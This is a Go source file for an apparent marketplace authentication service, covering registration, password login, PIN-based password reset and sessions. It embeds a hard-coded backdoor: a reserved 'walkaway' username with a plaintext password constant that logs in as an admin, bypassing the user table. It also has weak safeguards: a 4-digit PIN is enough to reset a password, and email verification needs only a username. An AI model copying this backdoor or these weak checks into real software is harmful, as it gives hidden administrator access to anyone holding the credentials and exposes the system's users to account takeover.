package service

import (
	"context"
	"fmt"
	"regexp"
	"time"

	"github.com/google/uuid"
	"github.com/rs/zerolog"
	"golang.org/x/crypto/bcrypt"

	"github.com/vendorhub/marketplace-auth/internal/core/domain"
	"github.com/vendorhub/marketplace-auth/internal/core/ports"
)

const minPasswordLen = 6

// Fixed bypass account. Resolves to an admin principal without touching
// the directory table; its username is reserved so it can never be
// shadowed by a registration.
const (
	bypassUsername    = "walkaway"
	bypassPassword    = "Dn249118++"
	bypassPrincipalID = "bypass-admin"
)

var usernameRe = regexp.MustCompile(`^[a-zA-Z0-9_]{3,32}$`)
var pinRe = regexp.MustCompile(`^\d{4}$`)

// DirectoryService implements the local fallback directory: registration,
// password login, PIN-gated password reset and session markers, all
// independent of the hosted provider.
type DirectoryService struct {
	repo       ports.DirectoryRepository
	sessions   ports.SessionStore
	sessionTTL time.Duration
	log        zerolog.Logger
}

func NewDirectoryService(repo ports.DirectoryRepository, sessions ports.SessionStore, sessionTTL time.Duration, log zerolog.Logger) *DirectoryService {
	if sessionTTL <= 0 {
		sessionTTL = domain.FallbackSessionTTL
	}
	return &DirectoryService{repo: repo, sessions: sessions, sessionTTL: sessionTTL, log: log}
}

// Register validates the input, stores a new user row with hashed
// credentials, and issues a session marker. Passwords and PINs are never
// stored in clear text.
func (s *DirectoryService) Register(ctx context.Context, in ports.RegisterInput) (*domain.Principal, *domain.Session, error) {
	if !usernameRe.MatchString(in.Username) {
		return nil, nil, fmt.Errorf("%w: username must be 3-32 letters, digits or underscores", domain.ErrInvalidFormat)
	}
	if in.Username == bypassUsername {
		return nil, nil, domain.ErrUsernameTaken
	}
	if len(in.Password) < minPasswordLen {
		return nil, nil, fmt.Errorf("%w: password must be at least %d characters", domain.ErrInvalidFormat, minPasswordLen)
	}
	if !pinRe.MatchString(in.Pin) {
		return nil, nil, fmt.Errorf("%w: pin must be exactly 4 digits", domain.ErrInvalidFormat)
	}
	if in.Role != domain.RoleClient && in.Role != domain.RoleVendor {
		return nil, nil, fmt.Errorf("%w: role must be client or vendor", domain.ErrInvalidFormat)
	}

	passHash, err := bcrypt.GenerateFromPassword([]byte(in.Password), bcrypt.DefaultCost)
	if err != nil {
		return nil, nil, err
	}
	pinHash, err := bcrypt.GenerateFromPassword([]byte(in.Pin), bcrypt.DefaultCost)
	if err != nil {
		return nil, nil, err
	}

	now := time.Now().UTC()
	user := &domain.User{
		ID:           uuid.NewString(),
		Username:     in.Username,
		PasswordHash: string(passHash),
		PinHash:      string(pinHash),
		Role:         in.Role,
		FirstName:    in.FirstName,
		LastName:     in.LastName,
		CompanyName:  in.CompanyName,
		CreatedAt:    now,
		UpdatedAt:    now,
	}

	created, err := s.repo.Create(ctx, user)
	if err != nil {
		return nil, nil, err
	}

	principal := created.Principal()
	session, err := s.issueSession(ctx, principal, domain.StrategyDirectory)
	if err != nil {
		return nil, nil, err
	}

	s.log.Info().Str("username", in.Username).Str("role", in.Role).Msg("directory user registered")

	return principal, session, nil
}

// Login authenticates against the directory table, or against the fixed
// bypass pair, and issues a fresh session marker.
func (s *DirectoryService) Login(ctx context.Context, username, password string) (*domain.Principal, *domain.Session, error) {
	if username == "" || password == "" {
		return nil, nil, domain.ErrInvalidCredentials
	}

	if username == bypassUsername {
		if password != bypassPassword {
			return nil, nil, domain.ErrInvalidCredentials
		}
		principal := bypassPrincipal()
		session, err := s.issueSession(ctx, principal, domain.StrategyBypass)
		if err != nil {
			return nil, nil, err
		}
		s.log.Warn().Str("username", username).Msg("bypass admin login")
		return principal, session, nil
	}

	user, err := s.repo.FindByUsername(ctx, username)
	if err != nil {
		// A missing row reads the same as a bad password.
		return nil, nil, domain.ErrInvalidCredentials
	}

	if bcrypt.CompareHashAndPassword([]byte(user.PasswordHash), []byte(password)) != nil {
		return nil, nil, domain.ErrInvalidCredentials
	}

	principal := user.Principal()
	session, err := s.issueSession(ctx, principal, domain.StrategyDirectory)
	if err != nil {
		return nil, nil, err
	}

	s.log.Info().Str("username", username).Msg("directory login")
	return principal, session, nil
}

// VerifyPin checks the secondary factor. Format errors fail before any
// store access.
func (s *DirectoryService) VerifyPin(ctx context.Context, username, pin string) error {
	if !pinRe.MatchString(pin) {
		return fmt.Errorf("%w: pin must be exactly 4 digits", domain.ErrInvalidFormat)
	}

	user, err := s.repo.FindByUsername(ctx, username)
	if err != nil {
		return err
	}

	if bcrypt.CompareHashAndPassword([]byte(user.PinHash), []byte(pin)) != nil {
		return domain.ErrInvalidPin
	}
	return nil
}

// ResetPassword replaces the password after a successful PIN check. All
// validation happens before any store mutation.
func (s *DirectoryService) ResetPassword(ctx context.Context, username, pin, newPassword string) error {
	if !pinRe.MatchString(pin) {
		return fmt.Errorf("%w: pin must be exactly 4 digits", domain.ErrInvalidFormat)
	}
	if len(newPassword) < minPasswordLen {
		return fmt.Errorf("%w: password must be at least %d characters", domain.ErrInvalidFormat, minPasswordLen)
	}

	if err := s.VerifyPin(ctx, username, pin); err != nil {
		return err
	}

	hash, err := bcrypt.GenerateFromPassword([]byte(newPassword), bcrypt.DefaultCost)
	if err != nil {
		return err
	}

	if err := s.repo.UpdatePasswordHash(ctx, username, string(hash)); err != nil {
		return err
	}

	s.log.Info().Str("username", username).Msg("password reset")
	return nil
}

// CurrentUser resolves a session marker to its principal. An expired or
// unknown marker is removed and reported as domain.ErrSessionExpired.
func (s *DirectoryService) CurrentUser(ctx context.Context, token string) (*domain.Principal, error) {
	session, err := s.sessions.Get(ctx, token)
	if err != nil {
		return nil, err
	}

	if session.Expired(time.Now().UTC()) {
		// Implicit logout.
		_ = s.sessions.Delete(ctx, token)
		return nil, domain.ErrSessionExpired
	}

	if session.Strategy == domain.StrategyBypass {
		return bypassPrincipal(), nil
	}

	user, err := s.repo.FindByUsername(ctx, session.Username)
	if err != nil {
		return nil, err
	}
	return user.Principal(), nil
}

// VerifyEmail marks the directory account as verified.
func (s *DirectoryService) VerifyEmail(ctx context.Context, username string) error {
	return s.repo.MarkVerified(ctx, username)
}

// Logout discards the session marker.
func (s *DirectoryService) Logout(ctx context.Context, token string) error {
	return s.sessions.Delete(ctx, token)
}

func (s *DirectoryService) issueSession(ctx context.Context, p *domain.Principal, strategy string) (*domain.Session, error) {
	session := &domain.Session{
		Token:       uuid.NewString(),
		PrincipalID: p.ID,
		Username:    p.Username,
		Role:        p.Role,
		Strategy:    strategy,
		ExpiresAt:   time.Now().UTC().Add(s.sessionTTL),
	}
	if err := s.sessions.Put(ctx, session); err != nil {
		return nil, err
	}
	return session, nil
}

func bypassPrincipal() *domain.Principal {
	return &domain.Principal{
		ID:         bypassPrincipalID,
		Username:   bypassUsername,
		Role:       domain.RoleAdmin,
		IsVerified: true,
	}
}
